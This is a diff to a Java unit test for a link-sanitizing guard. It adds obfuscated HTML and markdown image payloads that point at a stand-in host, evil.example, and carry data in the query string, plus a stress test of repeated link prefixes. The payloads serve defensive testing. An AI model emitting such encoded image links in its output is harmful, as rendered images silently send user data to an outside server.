@@ -84,6 +84,8 @@ class LinkGuardTest {
                 "<img src=\"https://evil.example/p?\nd=[NAME-7K2F9Q]\">",
                 "<img src=\"ht\ttps://evil.example/p?d=[NAME-7K2F9Q]\">",
                 "<img src = '[URL-7K2F9Q]?d=[NAME-7K2F9Q]'>",
+                "<img src='&#" + "0".repeat(40) + "104;ttps://evil.example/[NAME-7K2F9Q]'>",
+                "<img src='&#" + "0".repeat(600) + "104;ttps://evil.example/[NAME-7K2F9Q]'>",
                 "<image href='https&#58;//evil.example/[NAME-7K2F9Q]'>",
                 "![a][b]\n\n[b]: <[URL-7K2F9Q]?d=[NAME-7K2F9Q]>",
                 "![a][b]\n\n[b]: &#104;ttps://evil.example/[NAME-7K2F9Q]",
@@ -138,6 +140,13 @@ class LinkGuardTest {
     void anAddressTooLongToJudgeIsMadeHarmless() {
         String text = "[a](https://evil.example/" + "a-".repeat(1500) + ") end";
         assertThat(guarded(text)).isEqualTo(text.replace("https:", "hxxps:"));
+    }
+
+    @Test
+    void whereVeryManyMayBeginTheyEnd() {
+        for (String unit : List.of("(//", "](x", "![](x", "](<", "=\"http://", "hhttps:", "![a](https://a ", "]: /")) {
+            assertThat(guarded(unit.repeat(90_000 / unit.length())).length()).isGreaterThan(80_000);
+        }
     }
 
     private static String text(Seeded seeded) {
